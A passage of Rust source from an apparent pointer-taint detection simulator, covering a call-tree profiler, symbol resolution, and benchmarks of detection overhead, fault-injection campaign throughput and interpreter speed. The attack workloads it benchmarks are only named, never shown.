/// [`DEPTH_CAP`] collapses into the top frame (counted), so the tree is a
/// faithful *model*, never a panic source.
#[derive(Debug)]
pub struct CallTree {
    nodes: Vec<Node>,
    /// Cursor path; `stack[0]` is always the root node.
    stack: Vec<usize>,
    /// Call depth beyond `DEPTH_CAP` (balances the matching returns).
    overflow: u64,
    /// Returns seen with only the root frame on the stack.
    underflow: u64,
}

impl Default for CallTree {
    fn default() -> CallTree {
        CallTree {
            nodes: vec![Node {
                entry: u32::MAX,
                retired: 0,
                children: Vec::new(),
            }],
            stack: vec![0],
            overflow: 0,
            underflow: 0,
        }
    }
}

impl CallTree {
    /// A fresh tree holding only the root frame.
    #[must_use]
    pub fn new() -> CallTree {
        CallTree::default()
    }

    /// One instruction retired at `pc` in the current frame.
    #[inline]
    pub fn on_retire(&mut self, pc: u32) {
        let cur = *self.stack.last().expect("root frame always present");
        let node = &mut self.nodes[cur];
        if node.entry == u32::MAX {
            node.entry = pc; // root frame starts at the program entry
        }
        node.retired += 1;
    }

    /// A call retired; the callee starts at `entry`.
    #[inline]
    pub fn on_call(&mut self, entry: u32) {
        if self.stack.len() >= DEPTH_CAP {
            self.overflow += 1;
            return;
        }
        let cur = *self.stack.last().expect("root frame always present");
        let child = self.nodes[cur]
            .children
            .iter()
            .copied()
            .find(|&c| self.nodes[c].entry == entry);
        let child = match child {
            Some(c) => c,
            None => {
                let c = self.nodes.len();
                self.nodes.push(Node {
                    entry,
                    retired: 0,
                    children: Vec::new(),
                });
                self.nodes[cur].children.push(c);
                c
            }
        };
        self.stack.push(child);
    }

    /// A `jr $ra` retired: pop the current frame.
    #[inline]
    pub fn on_ret(&mut self) {
        if self.overflow > 0 {
            self.overflow -= 1;
        } else if self.stack.len() > 1 {
            self.stack.pop();
        } else {
            self.underflow += 1;
        }
    }

    /// Current shadow-stack depth (root frame included).
    #[must_use]
    pub fn depth(&self) -> usize {
        self.stack.len()
    }

    /// Returns observed while only the root frame was live.
    #[must_use]
    pub fn underflows(&self) -> u64 {
        self.underflow
    }

    /// Collapsed-stack lines (`a;b;c <count>` semantics): every frame with a
    /// non-zero exclusive retire count becomes one `(path, count)` pair,
    /// path frames joined with `;`, sorted lexicographically by path. The
    /// format is what flamegraph tooling ingests, and sorting makes it
    /// byte-deterministic regardless of call discovery order.
    #[must_use]
    pub fn collapsed(&self, symbols: &SymbolTable) -> Vec<(String, u64)> {
        let mut out = Vec::new();
        let mut path: Vec<String> = Vec::new();
        self.walk(0, symbols, &mut path, &mut out);
        out.sort();
        out
    }

    fn walk(
        &self,
        node: usize,
        symbols: &SymbolTable,
        path: &mut Vec<String>,
        out: &mut Vec<(String, u64)>,
    ) {
        let n = &self.nodes[node];
        let frame = if n.entry == u32::MAX {
            "<never-ran>".to_string()
        } else {
            symbols.name(n.entry)
        };
        path.push(frame);
        if n.retired > 0 {
            out.push((path.join(";"), n.retired));
        }
        for &child in &n.children {
            self.walk(child, symbols, path, out);
        }
        path.pop();
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn symtab() -> SymbolTable {
        SymbolTable::build(
            [
                ("main".to_string(), 0x40_0000),
                ("handle".to_string(), 0x40_0100),
                ("log_request".to_string(), 0x40_0200),
            ],
            0x40_0000,
            0x40_1000,
        )
    }

    #[test]
    fn nested_calls_produce_collapsed_paths() {
        let mut t = CallTree::new();
        t.on_retire(0x40_0000);
        t.on_call(0x40_0100);
        t.on_retire(0x40_0100);
        t.on_call(0x40_0200);
        t.on_retire(0x40_0200);
        t.on_retire(0x40_0204);
        t.on_ret();
        t.on_retire(0x40_0104);
        t.on_ret();
        t.on_retire(0x40_0004);
        let collapsed = t.collapsed(&symtab());
        assert_eq!(
            collapsed,
            vec![
                ("main".to_string(), 2),
                ("main;handle".to_string(), 2),
                ("main;handle;log_request".to_string(), 2),
            ]
        );
    }

    #[test]
    fn unbalanced_returns_never_pop_the_root() {
        let mut t = CallTree::new();
        t.on_retire(0x40_0000);
        t.on_ret();
        t.on_ret();
        t.on_retire(0x40_0004);
        assert_eq!(t.depth(), 1);
        assert_eq!(t.underflows(), 2);
        assert_eq!(t.collapsed(&symtab()), vec![("main".to_string(), 2)]);
    }

    #[test]
    fn depth_cap_keeps_call_and_return_balanced() {
        let mut t = CallTree::new();
        for i in 0..DEPTH_CAP + 10 {
            t.on_call(0x40_0000 + (i as u32) * 4);
        }
        assert_eq!(t.depth(), DEPTH_CAP);
        for _ in 0..DEPTH_CAP + 10 {
            t.on_ret();
        }
        // DEPTH_CAP-1 pushes + 11 overflowed calls; the same 266 returns
        // drain the overflow first, then the stack, and nothing underflows.
        assert_eq!(t.depth(), 1);
        assert_eq!(t.underflows(), 0);
    }
}
