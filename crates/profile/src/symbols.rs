//! Address-to-symbol resolution for profile reports.

/// A sorted symbol table over the guest text segment.
///
/// Built from `(name, addr)` pairs (the `Machine` layer feeds it the
/// assembled image's symbol map restricted to text). When several names
/// share an address the shortest one wins, ties broken lexicographically —
/// the same preference `Image::symbol_at` applies, so profile output and
/// disassembly agree on names.
#[derive(Debug, Default)]
pub struct SymbolTable {
    /// `(addr, name)`, sorted ascending by address, one entry per address.
    syms: Vec<(u32, String)>,
    /// Address range the table covers; lookups outside resolve to raw hex.
    lo: u32,
    hi: u32,
}

impl SymbolTable {
    /// Builds a table from `(name, addr)` pairs covering `[lo, hi)`.
    /// Pairs outside the range are dropped.
    #[must_use]
    pub fn build(pairs: impl IntoIterator<Item = (String, u32)>, lo: u32, hi: u32) -> SymbolTable {
        let mut by_addr: Vec<(u32, String)> = Vec::new();
        for (name, addr) in pairs {
            if addr < lo || addr >= hi {
                continue;
            }
            match by_addr.iter_mut().find(|(a, _)| *a == addr) {
                Some((_, existing)) => {
                    if (name.len(), &name) < (existing.len(), existing) {
                        *existing = name;
                    }
                }
                None => by_addr.push((addr, name)),
            }
        }
        by_addr.sort();
        SymbolTable {
            syms: by_addr,
            lo,
            hi,
        }
    }

    /// The symbol covering `addr`, as `(name, offset)`, if any.
    #[must_use]
    pub fn lookup(&self, addr: u32) -> Option<(&str, u32)> {
        if addr < self.lo || addr >= self.hi {
            return None;
        }
        let idx = match self.syms.binary_search_by_key(&addr, |(a, _)| *a) {
            Ok(i) => i,
            Err(0) => return None,
            Err(i) => i - 1,
        };
        let (base, name) = &self.syms[idx];
        Some((name.as_str(), addr - base))
    }

    /// A display name for `addr`: `sym`, `sym+0x1c`, or bare `0x400104`.
    #[must_use]
    pub fn name(&self, addr: u32) -> String {
        match self.lookup(addr) {
            Some((name, 0)) => name.to_string(),
            Some((name, off)) => format!("{name}+0x{off:x}"),
            None => format!("0x{addr:x}"),
        }
    }

    /// The bare symbol name covering `addr` (no offset), or raw hex.
    #[must_use]
    pub fn owner(&self, addr: u32) -> String {
        match self.lookup(addr) {
            Some((name, _)) => name.to_string(),
            None => format!("0x{addr:x}"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn table() -> SymbolTable {
        SymbolTable::build(
            [
                ("main".to_string(), 0x40_0100),
                ("handle".to_string(), 0x40_0200),
                ("handle_alias_longer".to_string(), 0x40_0200),
                ("outside".to_string(), 0x50_0000),
            ],
            0x40_0000,
            0x40_1000,
        )
    }

    #[test]
    fn lookup_prefers_shortest_name_and_respects_range() {
        let t = table();
        assert_eq!(t.lookup(0x40_0200), Some(("handle", 0)));
        assert_eq!(t.lookup(0x40_0204), Some(("handle", 4)));
        assert_eq!(t.lookup(0x40_0100), Some(("main", 0)));
        assert_eq!(t.lookup(0x40_00fc), None); // before the first symbol
        assert_eq!(t.lookup(0x50_0000), None); // outside [lo, hi)
    }

    #[test]
    fn names_render_with_offsets() {
        let t = table();
        assert_eq!(t.name(0x40_0200), "handle");
        assert_eq!(t.name(0x40_021c), "handle+0x1c");
        assert_eq!(t.name(0x7000_0000), "0x70000000");
        assert_eq!(t.owner(0x40_021c), "handle");
    }
}
