//! # ptaint-profile — guest-level profiling for the taint architecture
//!
//! The paper sells pointer-taintedness detection on cost; this crate says
//! *where the cycles go*. Four collectors, all byte-deterministic (counts
//! only — no wall-clock data ever enters a report):
//!
//! * [`PcHistogram`] — a per-PC retirement histogram collected in the hot
//!   loop via per-text-page counter arrays (the same page/slot layout as
//!   the decode cache: one 1024-slot array per 4 KiB page, last-page
//!   shortcut). Zero cost when disabled: the CPU holds an
//!   `Option<Box<HotProfile>>` and the retire hook is one branch.
//! * [`CallTree`] — a lightweight shadow call stack driven by the retired
//!   instruction stream (`jal`/`jalr` push, `jr $ra` pops), folded into a
//!   tree of call paths with exclusive retire counts. Rendered as
//!   deterministic collapsed stacks (`main;handle;log_request 123`) —
//!   directly flamegraph-compatible.
//! * [`EventProfile`] — an [`Observer`](ptaint_trace::Observer) that
//!   aggregates the taint event stream into a heatmap: per-site (pc)
//!   propagation/check/alert/elision counters, taint sources by kind, and
//!   per-syscall count + step-latency accounting.
//! * [`ProfileReport`] — the merge of the above, symbolized through a
//!   [`SymbolTable`], with a hand-rolled [`to_json`](ProfileReport::to_json)
//!   (pinned field order, counts only) and a human-readable top-N report
//!   ([`render_text`](ProfileReport::render_text)).
//!
//! The crate depends only on `ptaint-isa` and `ptaint-trace` so the CPU
//! crate can own a [`HotProfile`] without a dependency cycle; symbol names
//! are fed in by the caller (the `Machine` layer reads them off the
//! assembled `Image`).

mod calltree;
mod events;
mod hist;
mod report;
mod symbols;

pub use calltree::CallTree;
pub use events::{EventProfile, SiteCounters, SourceAgg, SyscallAgg};
pub use hist::{PcHistogram, PAGE_SLOTS};
pub use report::{HotPc, ProfileReport, SymbolCount, SyscallRow, TaintSite};
pub use symbols::SymbolTable;

use ptaint_isa::{Instr, Reg};

/// The hot-loop collector owned by the CPU: per-PC histogram + shadow call
/// stack. All three hooks are `#[inline]` and allocation-free on the steady
/// path (a call into a new page or a new call-tree edge allocates once).
#[derive(Debug, Default)]
pub struct HotProfile {
    /// Per-PC retirement counts.
    pub hist: PcHistogram,
    /// Shadow call stack / call-path tree.
    pub calls: CallTree,
}

impl HotProfile {
    /// A fresh, empty profile.
    #[must_use]
    pub fn new() -> HotProfile {
        HotProfile::default()
    }

    /// One instruction retired at `pc`.
    #[inline]
    pub fn on_retire(&mut self, pc: u32) {
        self.hist.bump(pc);
        self.calls.on_retire(pc);
    }

    /// Classify a retired instruction for the shadow call stack: `jal` and
    /// `jalr` push the callee entry (`next_pc`, the resolved jump target);
    /// `jr $ra` pops. Everything else is a no-op.
    #[inline]
    pub fn on_control(&mut self, instr: &Instr, next_pc: u32) {
        match instr {
            Instr::Jump { link: true, .. } | Instr::JumpAndLinkReg { .. } => {
                self.calls.on_call(next_pc);
            }
            Instr::JumpReg { rs } if *rs == Reg::RA => self.calls.on_ret(),
            _ => {}
        }
    }

    /// Total retired instructions seen (equals `ExecStats::instructions`
    /// when the profiler was enabled for the whole run).
    #[must_use]
    pub fn total(&self) -> u64 {
        self.hist.total()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn call_classification_matches_the_isa() {
        let mut p = HotProfile::new();
        p.on_retire(0x40_0000);
        p.on_control(
            &Instr::Jump {
                target: 0x40_0100,
                link: true,
            },
            0x40_0100,
        );
        p.on_retire(0x40_0100);
        p.on_control(
            &Instr::JumpAndLinkReg {
                rd: Reg::RA,
                rs: Reg::new(8),
            },
            0x40_0200,
        );
        p.on_retire(0x40_0200);
        p.on_control(&Instr::JumpReg { rs: Reg::RA }, 0x40_0104);
        // `jr` through a non-$ra register is a computed jump, not a return.
        p.on_control(&Instr::JumpReg { rs: Reg::new(8) }, 0x40_0300);
        assert_eq!(p.total(), 3);
        assert_eq!(p.calls.depth(), 2); // root -> 0x400100 (one ret popped 0x400200)
    }
}
