//! §5.4 overhead benchmarks: simulator throughput under each detection
//! policy and cache configuration, plus taint-ALU microbenchmarks.
//!
//! The paper's claim is that taint tracking is off the critical path in
//! *hardware*; in this software model the analogous observable is that the
//! per-instruction cost of full detection stays within a small constant
//! factor of the untracked baseline, and that architectural results are
//! bit-identical (asserted by the test suite). The `policy/*` benchmarks
//! quantify that factor; `hierarchy/*` quantifies the cache model's cost.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion, Throughput};
use ptaint::{DetectionPolicy, HierarchyConfig, Machine};
use ptaint_guest::workloads;

/// A fixed mid-size workload run for throughput measurement.
fn workload_machine() -> (Machine, u64) {
    let w = &workloads::all()[2]; // gzip: heavy pointer traffic
    let machine = Machine::from_c(w.source).expect("builds").world(w.world(4));
    let instructions = machine.run().stats.instructions;
    (machine, instructions)
}

fn bench_policies(c: &mut Criterion) {
    let (machine, instructions) = workload_machine();
    let mut group = c.benchmark_group("policy");
    group.throughput(Throughput::Elements(instructions));
    group.sample_size(10);
    for policy in [
        DetectionPolicy::Off,
        DetectionPolicy::ControlOnly,
        DetectionPolicy::PointerTaintedness,
    ] {
        group.bench_with_input(
            BenchmarkId::from_parameter(policy.name()),
            &policy,
            |b, &policy| {
                let m = machine.clone().policy(policy);
                b.iter(|| {
                    let out = m.run();
                    assert!(!out.reason.is_detected());
                    out.stats.instructions
                });
            },
        );
    }
    group.finish();
}

fn bench_hierarchies(c: &mut Criterion) {
    let (machine, instructions) = workload_machine();
    let mut group = c.benchmark_group("hierarchy");
    group.throughput(Throughput::Elements(instructions));
    group.sample_size(10);
    for (name, hierarchy) in [
        ("flat", HierarchyConfig::flat()),
        ("two-level", HierarchyConfig::two_level()),
    ] {
        group.bench_with_input(BenchmarkId::from_parameter(name), &hierarchy, |b, &h| {
            let m = machine.clone().hierarchy(h);
            b.iter(|| m.run().stats.instructions);
        });
    }
    group.finish();
}

fn bench_taint_alu(c: &mut Criterion) {
    use ptaint_cpu::taint_alu;
    use ptaint_isa::{MemWidth, RAluOp, ShiftOp};
    use ptaint_mem::WordTaint;

    let mut group = c.benchmark_group("taint-alu");
    let a = WordTaint::from_bits(0b0101);
    let b_t = WordTaint::from_bits(0b0011);
    group.bench_function("generic-or", |bch| {
        bch.iter(|| taint_alu::generic(std::hint::black_box(a), std::hint::black_box(b_t)))
    });
    group.bench_function("and-untaint", |bch| {
        bch.iter(|| {
            taint_alu::and_result(
                std::hint::black_box(0x0000_00ff),
                a,
                std::hint::black_box(0xffff_ffff),
                b_t,
            )
        })
    });
    group.bench_function("shift-smear", |bch| {
        bch.iter(|| taint_alu::shift_result(ShiftOp::Sll, std::hint::black_box(a), b_t))
    });
    group.bench_function("ralu-dispatch", |bch| {
        bch.iter(|| taint_alu::ralu_result(RAluOp::Xor, 1, std::hint::black_box(a), 2, b_t, false))
    });
    group.bench_function("load-extend", |bch| {
        bch.iter(|| taint_alu::load_result(MemWidth::Byte, true, std::hint::black_box(a)))
    });
    group.finish();
}

fn bench_memory(c: &mut Criterion) {
    use ptaint_mem::{MemorySystem, WordTaint};

    let mut group = c.benchmark_group("memory");
    group.bench_function("flat-word-rw", |bch| {
        let mut sys = MemorySystem::flat();
        let mut addr = 0x1000_0000u32;
        bch.iter(|| {
            sys.write_u32(addr, 0xdead_beef, WordTaint::ALL).unwrap();
            let v = sys.read_u32(addr).unwrap();
            addr = 0x1000_0000 + ((addr + 4) & 0xffff);
            v
        });
    });
    group.bench_function("cached-word-rw", |bch| {
        let mut sys = MemorySystem::new(HierarchyConfig::two_level());
        let mut addr = 0x1000_0000u32;
        bch.iter(|| {
            sys.write_u32(addr, 0xdead_beef, WordTaint::ALL).unwrap();
            let v = sys.read_u32(addr).unwrap();
            addr = 0x1000_0000 + ((addr + 4) & 0xffff);
            v
        });
    });
    group.finish();
}

criterion_group!(
    benches,
    bench_policies,
    bench_hierarchies,
    bench_taint_alu,
    bench_memory
);
criterion_main!(benches);
