//! Fault-injection campaign throughput: trials/sec for a full deterministic
//! campaign (baseline + seeded faulted trials across every `FaultKind`) on
//! two workloads — the synthetic Experiment 1 stack smash and the ghttpd
//! log-handler attack. Both trial mechanisms are measured: the default
//! forks every trial copy-on-write from one post-boot snapshot; the
//! `--no-fork` escape hatch reboots each trial from `_start`. The reports
//! are byte-identical either way, so the gap between the two series is
//! pure per-trial boot work recovered by forking.
//!
//! Two configurations are summarized:
//!
//! * **plain** (`*_trials_per_sec` reboot / `*_forked_trials_per_sec`
//!   forked) — the default machine, where boot is a cheap image load and
//!   the gap is modest.
//! * **elided** (`*_elided_trials_per_sec` reboot /
//!   `*_elided_forked_trials_per_sec` forked) — the paper configuration
//!   with `--elide-checks`, where every boot re-runs the whole-program
//!   static taint analysis before the first instruction. Rebooting pays
//!   that per trial; a fork inherits the proven-clean set from the
//!   snapshot, so the analysis is paid once per campaign. This is where
//!   snapshot/fork turns campaigns from minutes into seconds.
//!
//! Besides the criterion groups, the machine-readable summary is written
//! to `BENCH_campaign.json` at the repository root. Set `BENCH_QUICK=1`
//! to shrink the campaigns for CI smoke runs.

use std::time::Instant;

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use ptaint::{CampaignSpec, Machine, ToJson};
use ptaint_guest::apps::{ghttpd, synthetic};

/// Faulted trials per campaign: full runs average over a broad fault
/// sample; quick mode keeps CI smoke runs under a second.
fn trials() -> u64 {
    if quick() {
        4
    } else {
        32
    }
}

/// Faulted trials for the elided *reboot* series, where every trial costs
/// a whole-program analysis: enough runs to average, few enough to keep
/// the bench finite. (The rate is analysis-dominated, so a short campaign
/// measures it faithfully.)
const ELIDED_REBOOT_TRIALS: u64 = 2;

fn quick() -> bool {
    std::env::var_os("BENCH_QUICK").is_some()
}

/// Campaign seed: fixed so every run samples the identical fault schedule
/// (the trend gate's seed, so the summary measures the gated campaign).
const SEED: u64 = 7;

/// One campaign workload by name, in the default (plain) configuration.
fn build(name: &str) -> Machine {
    match name {
        "exp1" => Machine::from_c(synthetic::EXP1_SOURCE)
            .expect("exp1 builds")
            .world(synthetic::exp1_attack_world()),
        "ghttpd" => {
            let m = Machine::from_c(ghttpd::SOURCE).expect("ghttpd builds");
            let world = ghttpd::attack_world(m.image());
            m.world(world)
        }
        other => unreachable!("unknown workload {other}"),
    }
}

const WORKLOADS: [&str; 2] = ["exp1", "ghttpd"];

/// Trials/sec over several whole-campaign runs, reporting the best (least
/// noise-disturbed) run after one warmup.
fn trials_per_sec(machine: &Machine, spec: &CampaignSpec) -> f64 {
    // Count the unfaulted baseline run along with the faulted trials.
    let runs = machine.run_campaign(spec).records.len() as f64 + 1.0;
    let mut best = f64::MIN;
    for _ in 0..3 {
        let start = Instant::now();
        let report = machine.run_campaign(spec);
        let elapsed = start.elapsed();
        assert_eq!(report.records.len() as f64 + 1.0, runs);
        best = best.max(runs / elapsed.as_secs_f64());
    }
    best
}

/// Trials/sec from a single timed campaign (no warmup, no repetition) —
/// for the analysis-dominated elided reboot series, where repetition
/// would cost minutes and the rate is stable anyway.
fn trials_per_sec_once(machine: &Machine, spec: &CampaignSpec) -> f64 {
    let start = Instant::now();
    let report = machine.run_campaign(spec);
    (report.records.len() as f64 + 1.0) / start.elapsed().as_secs_f64()
}

fn bench_campaigns(c: &mut Criterion) {
    let spec = CampaignSpec::new(SEED, trials());

    let mut group = c.benchmark_group("campaign");
    // Each campaign runs the unfaulted baseline plus `trials()` faulted runs.
    group.throughput(Throughput::Elements(trials() + 1));
    group.sample_size(10);
    for name in WORKLOADS {
        let forked = build(name);
        let rebooted = build(name).fork_trials(false);
        group.bench_function(format!("{name}_forked"), |b| {
            b.iter(|| forked.run_campaign(&spec).records.len())
        });
        group.bench_function(format!("{name}_reboot"), |b| {
            b.iter(|| rebooted.run_campaign(&spec).records.len())
        });
    }
    group.finish();

    // Machine-readable summary for the trend consolidator. Each mode pair
    // must produce the same report bytes — assert it here so the
    // throughput comparison is guaranteed to be apples-to-apples.
    let mut fields = Vec::new();
    let mut lines = Vec::new();
    for name in WORKLOADS {
        let forked = build(name);
        let rebooted = build(name).fork_trials(false);
        assert_eq!(
            forked.run_campaign(&spec).to_json(),
            rebooted.run_campaign(&spec).to_json(),
            "{name}: forked and rebooted campaigns must be byte-identical"
        );
        let reboot_rate = trials_per_sec(&rebooted, &spec);
        let forked_rate = trials_per_sec(&forked, &spec);
        fields.push((format!("{name}_trials_per_sec"), reboot_rate));
        fields.push((format!("{name}_forked_trials_per_sec"), forked_rate));
        lines.push(format!(
            "{name} plain {reboot_rate:.0} reboot / {forked_rate:.0} forked trials/s ({:.1}x)",
            forked_rate / reboot_rate
        ));
    }
    // The elided (paper) configuration: every reboot re-runs the static
    // analysis, so its reboot series uses a short campaign (the rate is
    // analysis-dominated) while the forked series runs the full one.
    let short = CampaignSpec::new(SEED, ELIDED_REBOOT_TRIALS.min(trials()));
    for name in WORKLOADS {
        let forked = build(name).elide_checks(true);
        let rebooted = build(name).elide_checks(true).fork_trials(false);
        assert_eq!(
            forked.run_campaign(&short).to_json(),
            rebooted.run_campaign(&short).to_json(),
            "{name}: elided forked and rebooted campaigns must be byte-identical"
        );
        let reboot_rate = trials_per_sec_once(&rebooted, &short);
        let forked_rate = trials_per_sec_once(&forked, &spec);
        fields.push((format!("{name}_elided_trials_per_sec"), reboot_rate));
        fields.push((format!("{name}_elided_forked_trials_per_sec"), forked_rate));
        lines.push(format!(
            "{name} elided {reboot_rate:.1} reboot / {forked_rate:.0} forked trials/s ({:.0}x)",
            forked_rate / reboot_rate
        ));
    }
    // The sharded runner (campaign engine v2) on the elided ghttpd
    // campaign — the workload where per-trial cost is highest. The series
    // measures steady-state scheduler throughput: the machine is
    // `prepare_analysis()`-warmed first, so the one-time static analysis
    // (whose cost is what the `_elided_trials_per_sec` reboot series pays
    // on *every* trial) is amortized out, and each worker shard boots
    // from a snapshot rather than re-analyzing. On multi-core hosts the
    // work-stealing shards add core-count scaling on top. Byte-identity
    // with the sequential report is asserted before timing, so the
    // comparison is apples-to-apples by construction.
    {
        let m = build("ghttpd").elide_checks(true).prepare_analysis();
        let jobs = std::thread::available_parallelism().map_or(4, std::num::NonZeroUsize::get);
        let sequential = m.run_campaign(&spec);
        assert_eq!(
            m.run_campaign_jobs(&spec, jobs).to_json(),
            sequential.to_json(),
            "ghttpd: sharded and sequential campaigns must be byte-identical"
        );
        let runs = sequential.records.len() as f64 + 1.0;
        let mut best = f64::MIN;
        for _ in 0..3 {
            let start = Instant::now();
            let report = m.run_campaign_jobs(&spec, jobs);
            assert_eq!(report.records.len() as f64 + 1.0, runs);
            best = best.max(runs / start.elapsed().as_secs_f64());
        }
        fields.push(("campaign_sharded_trials_per_sec".to_owned(), best));
        lines.push(format!("ghttpd elided sharded -j{jobs} {best:.0} trials/s"));
    }
    let mut json = format!("{{\"bench\":\"campaign\",\"trials\":{}", trials());
    for (field, rate) in &fields {
        if *rate >= 100.0 {
            json.push_str(&format!(",\"{field}\":{rate:.0}"));
        } else {
            json.push_str(&format!(",\"{field}\":{rate:.2}"));
        }
    }
    json.push_str(&format!(",\"quick\":{}}}\n", quick()));
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../../BENCH_campaign.json");
    std::fs::write(path, &json).expect("writes BENCH_campaign.json");
    println!(
        "campaign: {} faulted trials/campaign; {} -> {path}",
        trials(),
        lines.join("; ")
    );
}

criterion_group!(benches, bench_campaigns);
criterion_main!(benches);
