//! Fault-injection campaign throughput: trials/sec for a full deterministic
//! campaign (baseline + seeded faulted trials across every `FaultKind`) on
//! two workloads — the synthetic Experiment 1 stack smash and the ghttpd
//! log-handler attack. Each trial boots a fresh machine, so this measures
//! the end-to-end cost of one campaign data point, not just the hot loop.
//!
//! Besides the criterion groups, a machine-readable summary is written to
//! `BENCH_campaign.json` at the repository root (trials per campaign,
//! trials/sec per workload). Set `BENCH_QUICK=1` to shrink the campaign for
//! CI smoke runs.

use std::time::Instant;

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use ptaint::{CampaignSpec, Machine};
use ptaint_guest::apps::{ghttpd, synthetic};

/// Faulted trials per campaign: full runs average over a broad fault
/// sample; quick mode keeps CI smoke runs under a second.
fn trials() -> u64 {
    if quick() {
        4
    } else {
        32
    }
}

fn quick() -> bool {
    std::env::var_os("BENCH_QUICK").is_some()
}

/// Campaign seed: fixed so every run samples the identical fault schedule.
const SEED: u64 = 1;

/// The two campaign workloads, built once and reused across trials.
fn workloads() -> Vec<(&'static str, Machine)> {
    let exp1 = Machine::from_c(synthetic::EXP1_SOURCE)
        .expect("exp1 builds")
        .world(synthetic::exp1_attack_world());
    let ghttpd_m = Machine::from_c(ghttpd::SOURCE).expect("ghttpd builds");
    let world = ghttpd::attack_world(ghttpd_m.image());
    vec![("exp1", exp1), ("ghttpd", ghttpd_m.world(world))]
}

/// Trials/sec over several whole-campaign runs, reporting the best (least
/// noise-disturbed) run after one warmup.
fn trials_per_sec(machine: &Machine, spec: &CampaignSpec) -> f64 {
    // Count the unfaulted baseline run along with the faulted trials.
    let runs = machine.run_campaign(spec).records.len() as f64 + 1.0;
    let mut best = f64::MIN;
    for _ in 0..3 {
        let start = Instant::now();
        let report = machine.run_campaign(spec);
        let elapsed = start.elapsed();
        assert_eq!(report.records.len() as f64 + 1.0, runs);
        best = best.max(runs / elapsed.as_secs_f64());
    }
    best
}

fn bench_campaigns(c: &mut Criterion) {
    let spec = CampaignSpec::new(SEED, trials());
    let workloads = workloads();

    let mut group = c.benchmark_group("campaign");
    // Each campaign runs the unfaulted baseline plus `trials()` faulted runs.
    group.throughput(Throughput::Elements(trials() + 1));
    group.sample_size(10);
    for (name, machine) in &workloads {
        group.bench_function(*name, |b| {
            b.iter(|| machine.run_campaign(&spec).records.len())
        });
    }
    group.finish();

    // Machine-readable summary for the trend consolidator.
    let mut rates = Vec::new();
    for (name, machine) in &workloads {
        rates.push((*name, trials_per_sec(machine, &spec)));
    }
    let mut json = format!("{{\"bench\":\"campaign\",\"trials\":{}", trials());
    for (name, rate) in &rates {
        json.push_str(&format!(",\"{name}_trials_per_sec\":{rate:.0}"));
    }
    json.push_str(&format!(",\"quick\":{}}}\n", quick()));
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../../BENCH_campaign.json");
    std::fs::write(path, &json).expect("writes BENCH_campaign.json");
    let summary: Vec<String> = rates
        .iter()
        .map(|(name, rate)| format!("{name} {rate:.0} trials/s"))
        .collect();
    println!(
        "campaign: {} faulted trials/campaign; {} -> {path}",
        trials(),
        summary.join(", ")
    );
}

criterion_group!(benches, bench_campaigns);
criterion_main!(benches);
