//! Execution-engine microbenchmark: steps/sec for the legacy interpreter
//! vs. the predecoded/cached engine on a tight counted loop — the workload
//! where decode cost dominates and the decode cache pays off most.
//!
//! Besides the criterion groups, a machine-readable summary is written to
//! `BENCH_engine.json` at the repository root (guest steps, steps/sec per
//! engine, speedup). Set `BENCH_QUICK=1` to shrink the loop for CI smoke
//! runs.

use std::time::Instant;

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use ptaint::{Engine, ExitReason, Machine};

/// Loop iterations: full runs measure a stable hot loop; quick mode keeps
/// CI smoke runs under a second.
fn iterations() -> u32 {
    if quick() {
        2_000
    } else {
        500_000
    }
}

fn quick() -> bool {
    std::env::var_os("BENCH_QUICK").is_some()
}

/// A counted loop of `iters` iterations that exits with status 0.
fn tight_loop(iters: u32) -> Machine {
    Machine::from_asm(&format!(
        "main:  li $t0, 0
                li $t1, {iters}
        loop:   addiu $t0, $t0, 1
                bne $t0, $t1, loop
                li $v0, 1
                li $a0, 0
                syscall"
    ))
    .expect("assembles")
}

/// Steps/sec over several whole-program runs, reporting the best (least
/// noise-disturbed) run after one warmup.
fn steps_per_sec(machine: &Machine) -> f64 {
    let warmup = machine.run();
    assert_eq!(warmup.reason, ExitReason::Exited(0));
    let mut best = f64::MIN;
    for _ in 0..5 {
        let start = Instant::now();
        let out = machine.run();
        let elapsed = start.elapsed();
        assert_eq!(out.reason, ExitReason::Exited(0));
        best = best.max(out.stats.instructions as f64 / elapsed.as_secs_f64());
    }
    best
}

/// Quick-mode micro-assert: the chunked `write_bytes`/`set_taint_range`
/// fast paths (one page lookup per crossed page) must agree byte-for-byte
/// with a per-byte reference on a page-straddling range. Runs in CI smoke
/// mode so a fast-path regression fails the bench before it can skew any
/// throughput number.
fn assert_chunked_write_parity() {
    use ptaint::TaintedMemory;
    let base = 0x1000_0ff0; // straddles a page boundary
    let data: Vec<u8> = (0..64u32).map(|i| (i * 37 + 11) as u8).collect();

    let mut chunked = TaintedMemory::new();
    chunked.write_bytes(base, &data, true).expect("writes");
    chunked
        .set_taint_range(base + 8, 48, false)
        .expect("clears taint");

    let mut reference = TaintedMemory::new();
    for (i, &b) in data.iter().enumerate() {
        reference
            .write_u8(base + i as u32, b, true)
            .expect("writes");
    }
    for i in 0..48u32 {
        let addr = base + 8 + i;
        let (value, _) = reference.read_u8(addr).expect("reads");
        reference.write_u8(addr, value, false).expect("clears");
    }

    for i in 0..64u32 {
        let addr = base + i;
        assert_eq!(
            chunked.read_u8(addr).expect("reads"),
            reference.read_u8(addr).expect("reads"),
            "chunked write paths diverged from the per-byte reference at {addr:#x}"
        );
    }
}

fn bench_engines(c: &mut Criterion) {
    if quick() {
        assert_chunked_write_parity();
    }
    let machine = tight_loop(iterations());
    let steps = machine.run().stats.instructions;

    let mut group = c.benchmark_group("engine");
    group.throughput(Throughput::Elements(steps));
    group.sample_size(10);
    for (name, engine) in [("interp", Engine::Interp), ("cached", Engine::Cached)] {
        let m = machine.clone().engine(engine);
        group.bench_function(name, |b| {
            b.iter(|| {
                let out = m.run();
                assert_eq!(out.reason, ExitReason::Exited(0));
                out.stats.instructions
            })
        });
    }
    group.finish();

    // Machine-readable summary for the roadmap's before/after record.
    let interp = steps_per_sec(&machine.clone().engine(Engine::Interp));
    let cached = steps_per_sec(&machine.clone().engine(Engine::Cached));
    let json = format!(
        concat!(
            "{{\"bench\":\"engine\",\"guest_steps\":{},",
